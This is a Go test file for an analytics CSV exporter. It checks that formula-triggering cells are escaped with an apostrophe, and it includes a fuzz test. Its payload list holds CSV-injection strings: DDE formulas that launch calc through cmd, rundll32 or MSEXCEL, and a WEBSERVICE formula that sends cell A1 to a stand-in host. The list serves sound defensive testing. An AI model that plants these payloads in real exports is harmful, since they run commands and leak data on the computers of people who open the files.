package export

import (
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"analytics/engine/event"
)

// payloads are cells that some spreadsheet runs, or that try to become a cell that it runs.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
	"-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=HYPERLINK(\"http://e.example\",\"x\")",
	"=IMPORTXML(\"http://e.example\",\"//a\")", "=WEBSERVICE(\"http://e.example/\"&A1)",
	"=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0",
	"=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
	"\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\t1", "\r1", "\n1", "\x001", "\t\t=1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", " =1+1", "   +1", "  -1", " @A1", "\ufeff=1+1",
	"\ufeff\ufeff+1", "\u00a0=1+1", "\u200b=1+1", "\u200e-1", "\u202e=1", "\u2060@A1", "\u3000=1",
	"\u3000＝1", " \t=1", "\v=1", "\f=1", "\u00ad=1", "\u2066=1", "\u1680=1", "\u205f+1",
	"\u202f-1", "=", "+", "-", "@", "-5", "+49 30 1234", "--", "@user", "=\"a\"", "=\",=1", "-\"",
	"=1\n=2",
}

// harmless are cells that must stay as they are.
var harmless = []string{
	"", "a", "gpt-4o", "a=b", "1-2", "user@example.org", "'", "'=1", "Ünï", "日本語", "\"", "a,b",
	"a;b",
	"a\"b", "line\nline", " padded ", "/path?x=1", "0", "1e5", "TRUE", "{\"a\":1}", "\u200bx",
}

func TestNoCellOfCSVBeginsWithATrigger(t *testing.T) {
	if len(payloads) < 60 {
		t.Fatalf("%d payloads, want at least 60", len(payloads))
	}
	for _, p := range payloads {
		cell := readCell(t, p)
		if cell != "'"+p {
			t.Errorf("%q became %q, want it behind an apostrophe", p, cell)
		}
		if first, _ := utf8.DecodeRuneInString(cell); first != '\'' {
			t.Errorf("%q begins with %q", p, first)
		}
	}
	for _, p := range harmless {
		if got := readCell(t, p); got != p {
			t.Errorf("%q became %q", p, got)
		}
	}
}

// readCell writes text as the middle one of three fields and reads it back.
func readCell(t *testing.T, text string) string {
	t.Helper()
	line := append(appendField([]byte("a,"), []byte(text)), ",b\n"...)
	r := csv.NewReader(strings.NewReader(string(line)))
	r.FieldsPerRecord = 3
	all, err := r.ReadAll()
	if err != nil || len(all) != 1 {
		t.Fatalf("%q is written as %q: %v", text, line, err)
	}
	return all[0][1]
}

func FuzzField(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if strings.Contains(text, "\r") {
			return // encoding/csv takes \r\n for \n also inside quotes
		}
		cell := readCell(t, text)
		if cell != text && cell != "'"+text {
			t.Errorf("%q came back as %q", text, cell)
		}
		if runs([]byte(cell)) {
			t.Errorf("%q is still run as %q", text, cell)
		}
	})
}

// TestPayloadsInEveryTextFieldOfEveryKind writes events whose texts are all payloads. Numbers, also
// negative ones, stay numbers.
func TestPayloadsInEveryTextFieldOfEveryKind(t *testing.T) {
	for _, kind := range event.Kinds() {
		var e event.Event
		for i, p := range payloads {
			if strings.ContainsAny(p, "\r\n") {
				continue // never get past the intake; and see FuzzField
			}
			e.Reset(kind)
			for f, field := range kind.Fields() {
				switch {
				case field.Transient:
				case field.Type == event.ID:
					e.SetID(f, []byte(p))
				case field.Type.Numeric():
					e.SetInt(f, int64(-i)) // no number is negative; if one were, it stayed one
				default:
					e.SetText(f, []byte(p))
				}
			}
			var out strings.Builder
			w := newCSV(&out, kind)
			if err := w.Event(&e); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%s with %q: %v", kind, p, err)
			}
			for c, cell := range w.cells {
				got, stamp := rows[1][c], cell.name == "timestamp"
				if cell.form != number && got != "'"+p && !stamp {
					t.Errorf("%s.%s of %q is %q", kind, cell.name, p, got)
				} else if cell.form == number && strings.HasPrefix(got, "'") {
					t.Errorf("%s.%s is %q", kind, cell.name, got)
				}
			}
		}
	}
}
